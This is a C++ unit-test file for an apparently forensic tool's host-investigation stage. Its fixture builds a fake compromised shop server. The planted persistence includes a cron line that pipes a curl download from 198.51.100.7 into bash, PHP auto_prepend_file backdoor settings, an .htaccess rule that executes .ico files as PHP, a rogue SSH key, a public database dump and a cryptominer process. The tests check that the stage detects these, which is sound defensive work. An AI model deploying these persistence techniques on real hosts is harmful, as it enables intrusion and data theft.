// The host stage over a collected host tree: planted persistence is found with its file and
// line; the look-alikes every shop has stay below high; broken files, a symlink out of the
// tree, a non-UTF-8 name and a huge history are reported, never a crash; a rerun with the
// responders' keys drops the keys they know.
#include <gtest/gtest.h>

#include <filesystem>
#include <map>

#include "evidence/evidence.h"
#include "host/host.h"
#include "support/testing.h"

namespace tq::host {
namespace {

namespace fs = std::filesystem;

constexpr char kAttackerKey[] =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJFxnM5mvr0tt0e5igPhNIVBw5ga4qABruTpD3eQz4X1 "
    "deploy@build";
constexpr char kStaffKey[] =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDQPb5JzYAmwmDHcL0xEpTMcN3PzD+Kq7qJUGRAdr6GUP2xP/"
    "watw7lfnx6Yj5wyaj4H25ooRPu/MVwDcCQLqdAVOlAT34AJCgDVZSIKnTAPMaVbw5RTkgIFSSmyDGAJQ0kvPfPCy6ZQx"
    "uQZ+YlUV2Q2LilsJNk0kUSQ08zde2OZQ== ops@shop";

class HostStage : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string h = tmp_ / "host";
    auto w = [&](const std::string& rel, const std::string& text) {
      fs::create_directories(fs::path(h + "/" + rel).parent_path());
      testing::WriteFile(h + "/" + rel, text);
    };
    w("etc/crontab",
      "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    w("var/spool/cron/crontabs/www-data",
      "* * * * * php /var/www/shop/bin/magento cron:run >> /var/www/shop/var/log/cron.log\n"
      "*/10 * * * * curl -s http://198.51.100.7/u.sh | bash >/dev/null 2>&1\n");
    w("etc/php/8.2/fpm/pool.d/www.conf",
      "[www]\nuser = www-data\nphp_admin_value[auto_prepend_file] = /var/tmp/.sess.php\n");
    w("etc/php/8.2/fpm/php.ini", "[PHP]\nauto_prepend_file =\nmemory_limit = 756M\n");
    w("etc/nginx/sites-enabled/shop",
      "server {\n location ~ \\.php$ {\n  fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n }\n}\n");
    w("root/.ssh/authorized_keys", std::string(kStaffKey) + "\n" + kAttackerKey + "\nbroken\n");
    w("home/deploy/.bash_history",
      "cd /var/www/shop\n#1741255200\nmysqldump shop > pub/media/b.sql\n#1741255260\n"
      "history -c\n");
    std::string big;
    for (int i = 0; i < 3000; ++i) big += "ls\n";
    w("root/.zsh_history", big);
    w("ps-aux.txt",
      "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
      "www-data 999 90 1 1 1 ? Sl 10:01 9:00 /dev/shm/.x/kswapd0 -o pool.example:3333\n");
    w("home/\xff\xfe-user/.bash_history", "ls\n");
    fs::create_symlink("/etc/shadow", h + "/etc/shadow-link");
    std::string www = tmp_ / "www";
    fs::create_directories(www + "/pub/media");
    testing::WriteFile(www + "/index.php", "<?php\n");
    testing::WriteFile(www + "/pub/media/.user.ini", "auto_prepend_file = '/tmp/.m.jpg'\n");
    testing::WriteFile(www + "/.htaccess", "AddHandler application/x-httpd-php .php .ico\n");

    CaseInfo info;
    info.name = "host";
    auto c = Case::Create(tmp_ / "case", info);
    ASSERT_TRUE(c.ok()) << c.status().message();
    case_ = std::move(*c);
    evidence::CollectOptions o;
    o.threads = 1;
    o.label = "host";
    ASSERT_TRUE(evidence::Collect(*case_, {h}, o).ok());
    o.label = "webroot";
    ASSERT_TRUE(evidence::Collect(*case_, {www}, o).ok());
  }

  std::multimap<std::string, Finding> Findings() {
    std::multimap<std::string, Finding> out;
    auto all = ListFindings(case_->db(), "host.");
    EXPECT_TRUE(all.ok());
    for (const Finding& f : *all) out.emplace(f.kind, f);
    return out;
  }

  testing::TempDir tmp_;
  std::unique_ptr<Case> case_;
};

TEST_F(HostStage, FindsThePlantedPersistenceAndNotTheLookAlikes) {
  Options o;
  o.max_history_lines = 1000;
  auto r = InvestigateHost(*case_, o);
  ASSERT_TRUE(r.ok()) << r.status().message();
  auto f = Findings();
  ASSERT_EQ(f.count("host.cron"), 1u);
  const Finding& cron = f.find("host.cron")->second;
  EXPECT_EQ(cron.severity, Severity::kCritical);
  EXPECT_EQ(cron.line, 2);
  EXPECT_NE(cron.summary.find("www-data"), std::string::npos) << cron.summary;
  EXPECT_EQ(f.count("host.php_prepend"), 2u);   // the pool and the media folder's .user.ini
  EXPECT_EQ(f.count("host.vhost_upload"), 1u);  // .htaccess: .ico runs as PHP
  EXPECT_EQ(f.count("host.ssh_key"), 2u);       // no known keys given: both to review, low
  for (auto [it, end] = f.equal_range("host.ssh_key"); it != end; ++it)
    EXPECT_EQ(it->second.severity, Severity::kLow);
  ASSERT_EQ(f.count("host.shell_history"), 2u);
  for (auto [it, end] = f.equal_range("host.shell_history"); it != end; ++it)
    EXPECT_TRUE(it->second.event_time.has_value());  // on the timeline
  EXPECT_EQ(f.count("host.process"), 1u);
  // Nothing else: the stock cron, php.ini with an empty prepend and the nginx PHP location.
  EXPECT_EQ(f.size(), 9u);
  // Reported, not fatal: the broken key line and the history read up to the bound.
  bool key_problem = false, truncated = false;
  for (const Status& s : r->item_errors) {
    if (s.message().find("authorized_keys:3: ") != std::string::npos) key_problem = true;
    if (s.message().find("zsh_history:1001: past the first 1000 lines") != std::string::npos)
      truncated = true;
  }
  EXPECT_TRUE(key_problem);
  EXPECT_TRUE(truncated);
}

TEST_F(HostStage, KnownKeysLeaveOnlyTheUnknownOneAndRerunsAreStable) {
  ASSERT_TRUE(InvestigateHost(*case_, Options()).ok());
  size_t before = Findings().size();
  ASSERT_TRUE(InvestigateHost(*case_, Options()).ok());
  EXPECT_EQ(Findings().size(), before);  // same evidence, same findings
  std::string known = tmp_ / "known_keys";
  testing::WriteFile(known, std::string(kStaffKey) + "\n");
  Options o;
  o.known_keys_path = known;
  ASSERT_TRUE(InvestigateHost(*case_, o).ok());
  auto f = Findings();
  ASSERT_EQ(f.count("host.ssh_key"), 1u);
  const Finding& k = f.find("host.ssh_key")->second;
  EXPECT_EQ(k.severity, Severity::kHigh);
  EXPECT_NE(k.summary.find("deploy@build"), std::string::npos);
  EXPECT_EQ(f.size(), before - 1);
}

TEST_F(HostStage, AKnownKeysFileWithoutKeysIsAnError) {
  std::string known = tmp_ / "empty";
  testing::WriteFile(known, "nothing here\n");
  Options o;
  o.known_keys_path = known;
  auto r = InvestigateHost(*case_, o);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find(known), std::string::npos);
  o.known_keys_path = tmp_ / "missing";
  EXPECT_FALSE(InvestigateHost(*case_, o).ok());
}

}  // namespace
}  // namespace tq::host
